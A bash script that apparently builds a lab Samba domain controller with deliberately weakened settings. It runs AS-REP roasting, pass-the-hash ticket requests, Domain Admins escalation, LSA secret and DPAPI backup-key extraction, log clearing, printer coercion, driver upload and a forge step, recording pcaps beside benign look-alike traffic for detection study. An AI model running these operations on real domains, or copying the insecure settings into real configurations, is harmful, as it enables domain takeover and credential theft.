#!/bin/bash
# What a domain controller is got at with, harmless here: Samba, whom impacket, rpcclient, net, OpenLDAP's tools and calls that
# have no program (calls.py) ask for replies that a password can be guessed by, for a ticket with a hash in place of a password,
# to change accounts, to tell secrets, to clear a log, to connect to who asks, to take a printer's driver, and to take a host for
# a domain controller. Then what looks alike: users who log in and change passwords, and administrators who make accounts, read
# logs and registry, and print.
. "$(dirname "$0")/../lab.sh"
. "$(dirname "$0")/../domain.sh"
need $DOMAIN_PACKAGES ldap-utils ldb-tools
lab_start "port 88"
mkdir -p "$LAB/drivers/x64" "$LAB/spool"
chmod -R 777 "$LAB/drivers" "$LAB/spool"
domain_start "server signing = auto" "server smb encrypt = off" "ldap server require strong auth = no" "eventlog list = Security" \
  "printing = sysv" "print command = true" "print notify backchannel = yes" "[desk]" "path = $LAB/spool" "printable = yes" \
  "[print\$]" "path = $LAB/drivers" "read only = no"
client_conf
domain domain passwordsettings set --min-pwd-age=0
for name in old1 old2 old3; do domain user create $name $PASSWORD; done
# DONT_REQ_PREAUTH (MS-ADTS 2.2.16); Samba's KDC wants a proof where the service that is asked for does, too.
for entry in old1:4194816 old2:4194816 old3:4194816 krbtgt:4194818; do
  printf 'dn: CN=%s,CN=Users,DC=lab,DC=example\nchangetype: modify\nreplace: userAccountControl\nuserAccountControl: %s\n' "${entry%:*}" "${entry#*:}" |
    ldbmodify -H "$DOMAIN/private/sam.ldb" >>"$LAB/jobs.log" 2>&1
done
administrator="LAB\\Administrator%$PASSWORD"
hash=$(/usr/bin/python3 -c "from impacket.ntlm import compute_nthash; print(compute_nthash('$PASSWORD').hex())")
as_administrator=(-x -H "ldap://$DC" -D "Administrator@$REALM" -w $PASSWORD)
call() { (cd "$LAB" && quietly /usr/bin/python3 "$HERE/calls.py" $DC Administrator $PASSWORD "$@"); }
# pipe COMMANDS: rpcclient's, by a pipe of the controller's; group ARGUMENTS...: net rpc.
pipe() { rpc -U "$administrator" --use-kerberos=off "ncacn_np:$DC" -c "$1"; }
group() { quietly net rpc "$@" -s "$LAB/client.conf" -S $DC -U "$administrator" --use-kerberos=off; }
lab_save "$LAB/nothing.pcap"

lab_record "port 88"
printf '%s\n' ann old1 bob old2 old3 >"$LAB/names"
example GetNPUsers -no-pass -usersfile "$LAB/names" -dc-ip $SERVER lab.example/
lab_save "$HERE/roast.pcap"

lab_record "port 88"
example getTGT -hashes ":$hash" -dc-ip $SERVER lab.example/Administrator
lab_save "$HERE/overpass.pcap"

lab_record "tcp port 445"
group password bob $PASSWORD
group group addmem "Domain Admins" bob
lab_save "$HERE/accounts.pcap"

pipe 'createsecret G$old; setsecret G$old walnut'
lab_record "tcp port 445"
pipe 'querysecret G$old'
example dpapi backupkeys -t "LAB/Administrator:$PASSWORD@$SERVER"
lab_save "$HERE/secrets.pcap"

lab_record "tcp port 445"
call backup_key
lab_save "$HERE/keys.pcap"

lab_record "tcp port 445"
call clear_log
lab_save "$HERE/logs.pcap"

client_job /usr/bin/python3 /usr/share/doc/python3-impacket/examples/smbserver.py -smb2support files "$LAB/client"
sleep 2
lab_record "tcp port 445 or tcp port 139"
call printer_change
sleep 2
lab_save "$HERE/forced.pcap"
stop_clients

lab_record "tcp port 445"
printf 'MZ\x90\x00 a stand-in for a driver' >"$LAB/driver.dll"
smb -m SMB3_11 "//$DC/print\$" -U "$administrator" --use-kerberos=off -c "put $LAB/driver.dll x64\\driver.dll"
call driver
lab_save "$HERE/driver.pcap"

lab_record "tcp"
call forge
lab_save "$HERE/shadow.pcap"

# Look-alikes.
lab_record "port 88 or port 464"
for name in ann old1 Administrator; do quietly sh -c "echo $PASSWORD | kinit $name"; done
quietly sh -c "printf '$PASSWORD\nWinter2027\nWinter2027\n' | kpasswd carol"
lab_save "$HERE/users.pcap"

lab_record "tcp port 445 or tcp port 389"
quietly sh -c "printf '$PASSWORD\nWinter2027\nWinter2027\n' | smbpasswd -r $DC -U ann -s -c '$LAB/client.conf'"
cat >"$LAB/user.ldif" <<L
dn: CN=dora,CN=Users,DC=lab,DC=example
changetype: add
objectClass: user
sAMAccountName: dora

dn: CN=dora,CN=Users,DC=lab,DC=example
changetype: modify
replace: description
description: of the desk
L
quietly ldapmodify "${as_administrator[@]}" -f "$LAB/user.ldif"
pipe 'eventlog_numrecord Security; lsaquery; enumdrivers 3 "Windows x64"'
example reg "LAB/Administrator:$PASSWORD@$SERVER" query -keyName 'HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion'
printf 'a page\n' >"$LAB/page"
smb -m SMB3_11 "//$DC/desk" -U "$administrator" --use-kerberos=off -c "print $LAB/page"
lab_save "$HERE/administrators.pcap"
